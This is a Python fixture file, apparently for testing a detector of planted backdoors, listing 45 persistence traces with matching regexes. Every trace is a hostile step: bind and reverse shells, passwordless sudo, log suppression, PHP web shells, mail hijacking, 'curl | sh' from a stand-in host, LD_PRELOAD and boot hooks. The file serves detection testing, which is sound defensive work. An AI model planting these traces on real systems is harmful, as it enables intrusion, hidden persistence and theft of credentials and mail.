"""Traces of a list that was made before the rules were looked at, planted and counted after `blind` was mended."""

from __future__ import annotations

from .trace import Trace, trace

_WEB = "/var/www/html"
_ED = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"

SECOND: tuple[Trace, ...] = (
    trace("S01", "service", "unit /etc/systemd/system/ntp-relay.service 'ExecStart=/usr/bin/socat TCP-LISTEN:50777,fork EXEC:/bin/sh'", r"ntp-relay"),
    trace("S02", "service", "unit /etc/systemd/system/keepup.service 'ExecStart=/usr/bin/ssh -N -R 2222:localhost:22 x@198.51.100.9\nRestart=always'", r"keepup"),
    trace("S03", "container", "unit /home/anna/.config/systemd/user/container-sync.service 'ExecStart=/usr/bin/podman run --privileged -v /:/host docker.io/library/alpine'", r"container-sync"),
    trace("S04", "account", "put /etc/sudoers.d/30-ops '#1000 ALL=(ALL) NOPASSWD: ALL'", r"30-ops"),
    trace("S05", "account", "put /etc/sudoers.d/35-time 'Defaults:anna timestamp_timeout=-1, !tty_tickets'", r"35-time"),
    trace("S06", "account", "printf 'lxd:x:120:anna\n' >>/etc/group", r"\blxd\b"),
    trace("S07", "account", "sed -i '/^uucp:/s|:[^:]*$|:/usr/bin/python3|' /etc/passwd", r"\buucp\b"),
    trace("S08", "logging", "sed -i 's/^auth,authpriv/#&/' /etc/rsyslog.conf", r"/etc/rsyslog\.conf"),
    trace("S09", "logging", "put /etc/logrotate.d/rsyslog2 '/var/log/auth.log {\n  hourly\n  rotate 0\n  missingok\n}'", r"rsyslog2"),
    trace("S10", "logging", "put /etc/systemd/journald.conf.d/00-size.conf '[Journal]\nSystemMaxUse=1M'", r"00-size"),
    trace("S11", "name", "prog \"$(printf '/usr/local/bin/backup\\n.sh')\"", r"/usr/local/bin/backup(\\n|\\x0a|\n)"),
    trace("S12", "web", f"put {_WEB}/lib/update9.php '<?php @eval(file_get_contents(\"http://198.51.100.9/p\"));'", r"update9"),
    trace("S13", "web", f"put {_WEB}/lib/sess9.php '<?php $o = unserialize(base64_decode($_COOKIE[\"s\"])); $o->run();'", r"sess9"),
    trace("S14", "web", f"put {_WEB}/lib/ffi9.php '<?php $f = FFI::cdef(\"int system(const char *c);\"); $f->system($_SERVER[\"HTTP_X\"]);'", r"ffi9"),
    trace("S15", "web", f"put {_WEB}/lib/ph9.php '<?php include \"phar://\" . __DIR__ . \"/a.jpg/x.php\";'", r"ph9\.php"),
    trace("S16", "web", f"put {_WEB}/lib/sort9.php '<?php $a = [$_GET[\"x\"], \"\"]; usort($a, $_GET[\"f\"]);'", r"sort9"),
    trace("S17", "web", f"put {_WEB}/shop/.htaccess 'php_value auto_append_file {_WEB}/shop/a.png'", r"shop/\.htaccess"),
    trace("S18", "mail", "printf 'mynetworks = 0.0.0.0/0\n' >>/etc/postfix/main.cf", r"mynetworks"),
    trace("S19", "mail", "put /etc/postfix/transport 'bank.example smtp:[198.51.100.9]'", r"postfix/transport"),
    trace("S20", "mail", "put /root/.procmailrc ':0 c\n! drop@example.net'", r"/root/\.procmailrc"),
    trace("S21", "mail", "put /etc/dovecot/conf.d/99-debug.conf 'auth_debug_passwords = yes\nauth_verbose_passwords = plain'", r"99-debug"),
    trace("S22", "ssh", f"key /home/anna/.ssh/authorized_keys 'cert-authority {_ED}S2gaYYblCzpXcF8ZYcJHVZD8oDCnq6UWq9kGzXmaaaa ops-ca'", r"ops-ca|cert-authority"),
    trace("S23", "ssh", "put /etc/ssh/sshd_config.d/60-host.conf 'HostbasedAuthentication yes\nIgnoreRhosts no'", r"60-host|[Hh]ost[Bb]ased"),
    trace("S24", "network", "put /etc/openvpn/client.conf 'script-security 2\nup /etc/openvpn/up.py\nremote 198.51.100.9'; put /etc/openvpn/up.py '#!/usr/bin/python3\n'; chmod 755 /etc/openvpn/up.py", r"openvpn/(client|up)"),
    trace("S25", "network", "prog /usr/share/netx/p; put /etc/network/interfaces.d/eth9 'iface eth9 inet manual\n  post-up /usr/share/netx/p'", r"interfaces\.d/eth9"),
    trace("S26", "network", "put /etc/danted.conf 'internal: 0.0.0.0 port = 1080\nsocksmethod: none\nclient pass { from: 0/0 to: 0/0 }'", r"danted"),
    trace("S27", "kernel", "put /etc/modprobe.d/net.conf 'alias net-pf-10 ip_cachex\nsoftdep ip_tables pre: ip_cachex'", r"modprobe\.d/net\.conf"),
    trace("S28", "kernel", "put /usr/src/e1000x-1.2/dkms.conf 'PACKAGE_NAME=e1000x\nPOST_INSTALL=\"hook.sh\"'; put /usr/src/e1000x-1.2/hook.sh '#!/bin/sh\n:'; chmod 755 /usr/src/e1000x-1.2/hook.sh", r"e1000x"),
    trace("S29", "boot", "put /boot/grub/custom.cfg 'set linux_args=\"init=/usr/share/bootx\"'", r"custom\.cfg"),
    trace("S30", "boot", "printf '/var/lib/misc/s.img /mnt/.s ext4 loop,suid,exec 0 0\n' >>/etc/fstab", r"/etc/fstab"),
    trace("S31", "editor", "prog /usr/share/emx; put /etc/emacs/site-start.d/40net.el '(start-process \"n\" nil \"/usr/share/emx\")'", r"40net"),
    trace("S32", "client", "prog /home/anna/.cache/ps; put /home/anna/.psqlrc '\\! /home/anna/.cache/ps'", r"\.psqlrc"),
    trace("S33", "hook", "prog /usr/share/imx; put /etc/ImageMagick-6/delegates.xml '<delegatemap><delegate decode=\"ps\" command=\"/usr/share/imx &quot;%i&quot;\"/></delegatemap>'", r"delegates\.xml"),
    trace("S34", "hook", "prog /usr/share/hax; put /etc/haproxy/haproxy.cfg 'global\n  external-check\nbackend a\n  external-check command /usr/share/hax'", r"haproxy\.cfg"),
    trace("S35", "agent", "put /etc/gitlab-runner/config.toml 'pre_clone_script = \"curl -s http://198.51.100.9/r | sh\"'", r"gitlab-runner"),
    trace("S36", "agent", "put /var/lib/jenkins/init.groovy.d/a.groovy '\"/usr/share/jx\".execute()'", r"init\.groovy"),
    trace("S37", "hook", "put /etc/libvirt/hooks/qemu '#!/bin/sh\n/usr/share/netx/p &'; chmod 755 /etc/libvirt/hooks/qemu", r"libvirt/hooks"),
    trace("S38", "ssh", "printf 'SSHD_OPTS=\"-o AuthorizedKeysFile=/var/lib/misc/ak\"\n' >>/etc/default/ssh", r"default/ssh"),
    trace("S39", "pam", "printf 'LD_PRELOAD DEFAULT=/usr/lib/libpe.so\n' >>/etc/security/pam_env.conf", r"pam_env\.conf"),
    trace("S40", "systemd", "put /usr/lib/systemd/user-environment-generators/60-loc '#!/bin/sh\necho A=b'; chmod 755 /usr/lib/systemd/user-environment-generators/60-loc", r"60-loc"),
    trace("S41", "container", "prog /opt/cni/bin/bridge2; put /etc/cni/net.d/10-b.conflist '{\"plugins\": [{\"type\": \"bridge2\"}]}'", r"cni/(net\.d/10-b|bin/bridge2)"),
    trace("S42", "process", "runas '' sleep 911001", r"911001"),
    trace("S43", "process", "put /var/lib/misc/n.pl 'sleep 911002'; run setpriv --reuid 65534 --clear-groups perl /var/lib/misc/n.pl", r"misc/n\.pl"),
    trace("S44", "hiding", "mkdir -p /var/lib/misc/ov /usr/share/man; mount -t overlay overlay -o lowerdir=/var/lib/misc/ov:/usr/share/man /usr/share/man", r" on /usr/share/man"),
    trace("S45", "evasion", "ip route add blackhole 198.51.100.77/32", r"blackhole|198\.51\.100\.77/32"),
)  # fmt: skip
